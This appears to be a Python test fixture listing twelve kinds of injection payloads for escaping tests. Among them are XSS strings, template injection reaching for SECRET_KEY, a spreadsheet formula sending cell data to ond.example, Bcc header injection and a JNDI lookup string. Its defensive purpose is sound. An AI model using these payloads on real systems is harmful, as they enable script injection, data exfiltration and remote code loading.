"""Twelve families of nasty words, each of which would live where somebody forgot to escape it."""

# A live one would set ``window.__xss``, or carry the attribute ``data-live``.
PAYLOADS = {
    "script": "<script data-live>window.__xss=1</script>",
    "picture": '<img data-live src=x onerror="window.__xss=1">',
    "out of the textarea": "</textarea></title></style><script data-live>window.__xss=1</script>",
    "out of the attribute": "\"><svg data-live onload=window.__xss=1>' onmouseover='window.__xss=1' x='",
    "escaped twice": "&lt;script data-live&gt;window.__xss=1&lt;/script&gt;",
    "out of the script": "]]></script><script data-live>window.__xss=1</script>",
    "markdown": "[x](javascript:window.__xss=1) ![y](http://ond.example/p.gif) **<b data-live>**",
    "template": "{{ 7|add:42 }}{% include 'x' %}{0.__class__}{settings.SECRET_KEY}%s${window.__xss=1}",
    "formula": '=HYPERLINK("http://ond.example/?"&A1,"window.__xss")',
    "header and calendar": "x\r\nBcc: ond@ond.example\r\nBEGIN:VALARM\r\nATTENDEE:mailto:ond@ond.example",
    "writing turned round": "\u202e\u2066\u2028<b data-live onclick=window.__xss=1>\u2029",
    "forged log": '\x1b[31m\n{"event": "forged-line"} ${jndi:ldap://ond.example/a}',
}

FIELDS = 24
